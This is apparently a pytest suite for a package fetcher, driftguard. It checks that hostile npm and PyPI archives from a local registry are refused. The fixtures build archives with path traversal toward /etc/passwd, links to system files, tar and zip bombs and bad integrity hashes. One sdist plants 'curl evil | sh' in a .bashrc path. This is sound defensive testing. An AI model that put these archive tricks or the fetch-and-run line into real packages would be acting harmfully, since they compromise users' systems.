"""Hostile and broken artifacts served by a real registry on 127.0.0.1: every one is a
coded error (E_ARCHIVE, E_INTEGRITY, E_PACKAGE), and nothing is written anywhere but the
cache directory, which only ever receives verified, cleanly extracted artifacts."""

from __future__ import annotations

import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from driftguard import errors
from driftguard.package import ArtifactCache, Limits, capture_package_document, fetch
from npmregistry import (
    MTIME,
    Registry,
    file_member,
    npm_tarball,
    serve,
    sri,
    tar_gz,
    wheel,
)

PACKAGE_JSON = {"name": "evil", "version": "1.0.0", "main": "index.js"}


@pytest.fixture
def registry() -> Iterator[Registry]:
    with serve(Registry()) as reg:
        yield reg


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, registry: Registry) -> dict[str, Any]:
    work = tmp_path / "work"
    home = tmp_path / "home"
    work.mkdir()
    home.mkdir()
    monkeypatch.chdir(work)
    env = {
        "HOME": str(home),
        "npm_config_registry": registry.url,
        "PIP_INDEX_URL": registry.url + "simple",
        "PIP_CONFIG_FILE": os.devnull,
    }
    return {"root": tmp_path, "env": env, "cache": ArtifactCache(tmp_path / "cache")}


def tree(root: Path) -> set[str]:
    """Every path under ``root`` (files and directories)."""
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def member(name: str, kind: bytes = tarfile.REGTYPE, body: bytes = b"x", **kw: Any) -> Any:
    info = tarfile.TarInfo(name)
    info.type, info.mtime = kind, MTIME
    info.size = len(body) if kind == tarfile.REGTYPE else 0
    for k, v in kw.items():
        setattr(info, k, v)
    return info, (body if kind == tarfile.REGTYPE else None)


def good_members() -> list[Any]:
    return [
        file_member("package/package.json", json.dumps(PACKAGE_JSON).encode()),
        file_member("package/index.js", b"console.log('hi')\n"),
    ]


def publish(registry: Registry, members: list[Any], version: str = "1.0.0") -> None:
    registry.publish_npm({**PACKAGE_JSON, "version": version}, tar_gz(members))


def expect_error(sandbox: dict[str, Any], spec: str, cls: type, *needles: str) -> str:
    before = tree(sandbox["root"])
    with pytest.raises(cls) as info:
        fetch(spec, env=sandbox["env"], cache=sandbox["cache"])
    message = str(info.value)
    for needle in needles:
        assert needle in message, message
    # Nothing written: not in the cache (never created), not anywhere under the sandbox.
    assert tree(sandbox["root"]) == before
    assert not (sandbox["root"] / "cache").exists()
    return message


HOSTILE_TAR = {
    "traversal-raw": (
        [member("../../etc/passwd", body=b"root::0:0::/:/bin/sh\n")],
        "entry '../../etc/passwd' leaves the package root (path traversal)",
    ),
    "traversal-in-package": (
        [member("package/../../etc/passwd", body=b"root::0:0::/:/bin/sh\n")],
        "entry 'package/../../etc/passwd' leaves the package root (path traversal)",
    ),
    "absolute": (
        [member("/tmp/driftguard-evil-absolute", body=b"pwned\n")],
        "entry '/tmp/driftguard-evil-absolute' has an absolute path",
    ),
    "symlink": (
        [member("package/index.js", tarfile.SYMTYPE, linkname="/etc/passwd")],
        "entry 'package/index.js' is a symbolic link (to '/etc/passwd')",
    ),
    "hardlink": (
        [member("package/passwd", tarfile.LNKTYPE, linkname="/etc/passwd")],
        "entry 'package/passwd' is a hard link (to '/etc/passwd')",
    ),
    "char-device": (
        [member("package/null", tarfile.CHRTYPE, devmajor=1, devminor=3)],
        "entry 'package/null' is a device or FIFO",
    ),
    "fifo": (
        [member("package/pipe", tarfile.FIFOTYPE)],
        "entry 'package/pipe' is a device or FIFO",
    ),
    "backslash": (
        [member("package/..\\..\\evil.js", body=b"x")],
        "has a backslash in its path",
    ),
    "outside-package-dir": (
        [member("evil.js", body=b"x")],
        "entry 'evil.js' is outside the package directory",
    ),
    "twice": (
        [member("package/index.js", body=b"a"), member("package/index.js", body=b"b")],
        "index.js is in the archive twice",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_TAR))
def test_hostile_npm_tarballs_are_e_archive(
    case: str, registry: Registry, sandbox: dict[str, Any]
) -> None:
    members, needle = HOSTILE_TAR[case]
    publish(registry, good_members() + members)
    message = expect_error(sandbox, "npm:evil@1.0.0", errors.ArchiveError, needle)
    assert message.startswith("npm:evil@1.0.0: ")
    assert not Path("/tmp/driftguard-evil-absolute").exists()
    assert not (sandbox["root"] / "etc").exists()


def test_tar_bomb_is_stopped_by_the_ratio(registry: Registry, sandbox: dict[str, Any]) -> None:
    # 64 MiB of zeros gzip to ~64 KiB: 1000:1. Stopped once 1 MiB came out.
    bomb = [file_member("package/zeros.bin", bytes(64 * 1024 * 1024))]
    publish(registry, good_members() + bomb)
    compressed = len(registry.npm["evil"]["1.0.0"].tarball)
    assert compressed < 100_000
    message = expect_error(
        sandbox, "npm:evil@1.0.0", errors.ArchiveError, "compression ratio above 200:1"
    )
    assert f"({compressed} bytes expand past" in message


def test_total_size_limit_counts_decompressed_bytes(
    registry: Registry, sandbox: dict[str, Any]
) -> None:
    publish(registry, [*good_members(), file_member("package/blob.bin", os.urandom(2 << 20))])
    with pytest.raises(errors.ArchiveError) as info:
        fetch(
            "npm:evil@1.0.0",
            env=sandbox["env"],
            cache=sandbox["cache"],
            limits=Limits(max_total_bytes=1 << 20),
        )
    assert "expands to more than 1048576 bytes" in str(info.value)
    with pytest.raises(errors.ArchiveError) as info:
        fetch(
            "npm:evil@1.0.0",
            env=sandbox["env"],
            cache=sandbox["cache"],
            limits=Limits(max_file_bytes=1 << 20),
        )
    assert "blob.bin is 2097152 bytes, over the limit of 1048576" in str(info.value)
    assert not (sandbox["root"] / "cache").exists()


def test_too_many_files(registry: Registry, sandbox: dict[str, Any]) -> None:
    many = [
        file_member(f"package/f/{i:05d}.txt", os.urandom(8).hex().encode()) for i in range(20_001)
    ]
    publish(registry, good_members() + many)
    expect_error(sandbox, "npm:evil@1.0.0", errors.ArchiveError, "more than 20000 entries")


def test_truncated_and_garbage_tarballs(registry: Registry, sandbox: dict[str, Any]) -> None:
    whole = tar_gz([*good_members(), file_member("package/blob.bin", os.urandom(4096))])
    registry.publish_npm({**PACKAGE_JSON, "version": "1.0.0"}, whole[: len(whole) // 2])
    expect_error(sandbox, "npm:evil@1.0.0", errors.ArchiveError, "truncated gzip data")
    registry.publish_npm({**PACKAGE_JSON, "version": "1.0.1"}, b"PK\x03\x04 not a tarball")
    expect_error(sandbox, "npm:evil@1.0.1", errors.ArchiveError, "corrupt gzip data")


def test_integrity_mismatch(registry: Registry, sandbox: dict[str, Any]) -> None:
    tarball = npm_tarball({"package.json": json.dumps(PACKAGE_JSON), "index.js": "1\n"})
    other = npm_tarball({"package.json": json.dumps(PACKAGE_JSON), "index.js": "2\n"})
    registry.publish_npm(PACKAGE_JSON, tarball, integrity=sri(other))
    message = expect_error(
        sandbox, "npm:evil@1.0.0", errors.IntegrityError, "the registry states " + sri(other)
    )
    assert f"is sha512-{sri(tarball)[len('sha512-') :]}" in message
    # No dist.integrity: the sha1 shasum is checked instead.
    registry.publish_npm(
        {**PACKAGE_JSON, "version": "1.0.1"},
        tarball,
        integrity="",
        shasum=hashlib.sha1(other).hexdigest(),
    )
    expect_error(sandbox, "npm:evil@1.0.1", errors.IntegrityError, "the tarball's sha1")
    # Nothing to verify against: refused.
    registry.publish_npm({**PACKAGE_JSON, "version": "1.0.2"}, tarball, integrity="", shasum="")
    expect_error(sandbox, "npm:evil@1.0.2", errors.IntegrityError, "states no usable integrity")


def _zip_with(name: str, body: bytes) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("evil/__init__.py", "")
        z.writestr(
            "evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
        )
        z.writestr(name, body)
    return raw.getvalue()


WHEEL_FILES = {
    "evil/__init__.py": "",
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
}


@pytest.mark.parametrize(
    ("body", "needle"),
    [
        (_zip_with("../../etc/passwd", b"root::0:0\n"), "leaves the package root (path traversal)"),
        (_zip_with("/tmp/driftguard-evil-wheel", b"x"), "has an absolute path"),
        (wheel(WHEEL_FILES, symlinks={"evil/link.py": "/etc/passwd"}), "is a symbolic link"),
        (_zip_with("evil/zeros.bin", bytes(64 << 20)), "compression ratio above 200:1"),
        (b"PK\x03\x04" + bytes(64), "not a readable zip archive"),
        (b"PK\x05\x06" + bytes(18), "an empty zip archive"),
    ],
    ids=["traversal", "absolute", "symlink", "zip-bomb", "garbage", "empty"],
)
def test_hostile_wheels_are_e_archive(
    body: bytes, needle: str, registry: Registry, sandbox: dict[str, Any]
) -> None:
    registry.publish_pypi("evil", "evil-1.0-py3-none-any.whl", body)
    message = expect_error(sandbox, "pypi:evil==1.0", errors.ArchiveError, needle)
    assert message.startswith("pypi:evil==1.0 (evil-1.0-py3-none-any.whl): ")
    assert not Path("/tmp/driftguard-evil-wheel").exists()


def test_hostile_sdist_is_e_archive(registry: Registry, sandbox: dict[str, Any]) -> None:
    body = tar_gz(
        [
            file_member("evil-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"),
            file_member("evil-1.0/../../../home/.bashrc", b"curl evil | sh\n"),
        ]
    )
    registry.publish_pypi("evil", "evil-1.0.tar.gz", body)
    expect_error(sandbox, "pypi:evil==1.0", errors.ArchiveError, "(path traversal)")
    assert not (sandbox["root"] / "home" / ".bashrc").exists()


def test_pypi_sha256_mismatch(registry: Registry, sandbox: dict[str, Any]) -> None:
    registry.publish_pypi("evil", "evil-1.0-py3-none-any.whl", wheel(WHEEL_FILES), sha256="0" * 64)
    expect_error(sandbox, "pypi:evil==1.0", errors.IntegrityError, "the index states " + "0" * 64)


def test_bad_specs_and_missing_packages(registry: Registry, sandbox: dict[str, Any]) -> None:
    publish(registry, good_members())
    cases = [
        ("npm:nope@1.0.0", f"npm:nope@1.0.0: no such package on {registry.url}"),
        ("npm:evil@2.0.0", "npm:evil@2.0.0: no version 2.0.0 (latest is 1.0.0)"),
        ("npm:evil@^3", "npm:evil@^3: no version satisfies '^3'"),
        (
            "npm:evil@next",
            "npm:evil@next: 'next' is neither a dist-tag, a version nor a semver range",
        ),
        ("npm:Bad Name@1", "'npm:Bad Name@1': 'Bad Name' is not a valid npm package name"),
        ("pypi:nope==1.0", f"pypi:nope==1.0: no such project on {registry.url}simple"),
        ("pypi:evil[x]==1", "'pypi:evil[x]==1': extras are not supported"),
        (
            "cargo:serde@1",
            "'cargo:serde@1': a package is written npm:NAME@VERSION or pypi:NAME==VERSION",
        ),
    ]
    for spec, message in cases:
        expect_error(sandbox, spec, errors.PackageError, message)


def test_the_cache_holds_verified_artifacts_only(
    registry: Registry, sandbox: dict[str, Any]
) -> None:
    tarball = npm_tarball({"package.json": json.dumps(PACKAGE_JSON), "index.js": "ok\n"})
    registry.publish_npm(PACKAGE_JSON, tarball)
    key = "sha512-" + hashlib.sha512(tarball).hexdigest()
    first = fetch("npm:evil@1.0.0", env=sandbox["env"], cache=sandbox["cache"])
    assert not first.from_cache
    cache_dir = sandbox["root"] / "cache"
    assert sorted(os.listdir(cache_dir)) == [key]
    assert (cache_dir / key).read_bytes() == tarball
    second = fetch("npm:evil@1.0.0", env=sandbox["env"], cache=sandbox["cache"])
    assert second.from_cache and second.files == first.files
    downloads = [r for r in registry.requests if r.endswith(".tgz")]
    assert len(downloads) == 1
    # A cached file that no longer matches its name is dropped and fetched again.
    (cache_dir / key).write_bytes(b"tampered")
    third = fetch("npm:evil@1.0.0", env=sandbox["env"], cache=sandbox["cache"])
    assert not third.from_cache and third.files == first.files
    assert (cache_dir / key).read_bytes() == tarball
    assert sorted(os.listdir(cache_dir)) == [key]
    # The work directory and HOME stayed empty.
    assert tree(sandbox["root"] / "work") == set()
    assert tree(sandbox["root"] / "home") == set()


def test_cli_prints_the_coded_error(registry: Registry, sandbox: dict[str, Any]) -> None:
    publish(registry, [*good_members(), member("package/../../etc/passwd", body=b"x")])
    env = {**os.environ, **sandbox["env"], "DRIFTGUARD_CACHE": str(sandbox["root"] / "dgcache")}
    for args in (
        ["capture", "--package", "npm:evil@1.0.0"],
        ["diff", "npm:evil@1.0.0", "npm:evil@1.0.0"],
    ):
        r = subprocess.run(
            [sys.executable, "-m", "driftguard.cli", *args],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert r.returncode == 2, r.stderr
        assert r.stdout == ""
        assert r.stderr == (
            "error[E_ARCHIVE]: npm:evil@1.0.0: entry 'package/../../etc/passwd' leaves the"
            " package root (path traversal)\n"
        )
    assert not (sandbox["root"] / "dgcache").exists()
    # And a clean package through the same CLI: the snapshot, then the document.
    registry.publish_npm(
        {**PACKAGE_JSON, "version": "1.0.1"},
        npm_tarball(
            {"package.json": json.dumps({**PACKAGE_JSON, "version": "1.0.1"}), "index.js": "ok\n"}
        ),
    )
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "driftguard.cli",
            "capture",
            "--package",
            "npm:evil@^1.0.1",
            "--document",
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert doc["version"] == "1.0.1"
    assert [f["path"] for f in doc["files"]] == ["index.js", "package.json"]
    assert doc["files"][0]["text"] == "ok\n"
    assert os.listdir(sandbox["root"] / "dgcache" / "packages") == [
        "sha512-" + hashlib.sha512(registry.npm["evil"]["1.0.1"].tarball).hexdigest()
    ]
    assert (
        capture_package_document("npm:evil@1.0.1", env=sandbox["env"], cache=sandbox["cache"])
        == doc
    )
